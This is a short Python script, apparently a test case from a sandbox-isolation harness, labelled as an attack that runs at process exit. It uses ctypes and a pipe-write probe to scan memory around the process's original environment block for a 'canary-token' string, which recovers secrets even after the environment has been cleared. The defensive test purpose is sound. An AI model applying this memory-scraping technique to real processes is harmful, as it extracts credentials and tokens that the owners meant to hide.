# /// attack
# title = "Reads the block that the process was started with"
# moments = ["exit"]
# ///
import ctypes
import os
import re


def attack():
    libc = ctypes.CDLL(None)
    first = ctypes.c_void_p.in_dll(libc, "environ").value
    reader, writer = os.pipe()
    strings = ctypes.c_void_p.from_address(first).value or first
    for page in range(-64, 64):
        address = (strings & ~4095) + (page << 12)
        if libc.write(writer, ctypes.c_void_p(address), ctypes.c_size_t(4096)) == 4096:
            found = re.search(b"canary" + b"-token-[0-9a-f]+", os.read(reader, 4096))
            if found:
                return found.group().decode()
    return None
